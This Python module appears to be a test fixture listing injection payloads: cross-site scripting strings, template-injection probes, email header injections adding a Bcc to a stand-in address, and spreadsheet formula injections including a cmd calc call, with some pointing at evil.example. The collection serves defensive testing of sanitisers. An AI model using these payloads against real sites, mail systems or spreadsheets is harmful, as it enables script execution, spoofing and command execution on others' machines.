"""Texts by which strangers would have others' browsers, mail programs and spreadsheets do something."""

from __future__ import annotations

SCRIPTS = (
    "<script>pwned(1)</script>",
    '"><img src=x onerror=pwned(2)>',
    "'><svg/onload=pwned(3)>",
    "</textarea></title></style><script>pwned(4)</script>",
    "<iframe srcdoc='<script>parent.pwned(5)</script>'></iframe>",
    '<a href="javascript:pwned(6)">x</a>',
    "<turbo-stream action=append target=messages><template><script>pwned(7)</script></template></turbo-stream>",
    'https://evil.example/"onmouseover=pwned(8)//',
    "javascript:pwned(9)//https://evil.example",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<!--><img src=http://evil.example/x.png>-->",
    "<form action=http://evil.example/><button autofocus onfocus=pwned(10)>x",
    "{{ 7*7 }}{% print(7*7) %}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;pwned(11)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(12)>",
    "data:text/html,<script>pwned(13)</script>",
    "\u2028<details open ontoggle=pwned(14)>",
)
SHORT = (
    "<img src=x onerror=pwned(20)>", "\"><script>pwned(21)</script>", "'onfocus=pwned(22) autofocus='",
    "<svg/onload=pwned(23)>",
)  # fmt: skip
HEADERS = (
    "Ada\r\nBcc: eve@evil.example", "Ada\nX-Injected: yes\n\nbody", "Ada\r\n\r\n<script>pwned(30)</script>",
    "=?utf-8?q?Ada=0D=0ABcc:_eve@evil.example?=", "Ada\u2028Bcc: eve@evil.example", "\"Ada\" <eve@evil.example>, x",
)  # fmt: skip
FORMULAS = (
    "=HYPERLINK(\"http://evil.example\";\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", "\t=1+1",
    "\r=1+1", " =1+1",
)  # fmt: skip
BEGINS = ("=", "+", "-", "@", "\t", "\r")
NAMES = (*SHORT, *HEADERS, *FORMULAS)
"""For whatever is one line."""
LONG = "\n".join((*FORMULAS, *SCRIPTS, *HEADERS))
"""For whatever takes a text."""
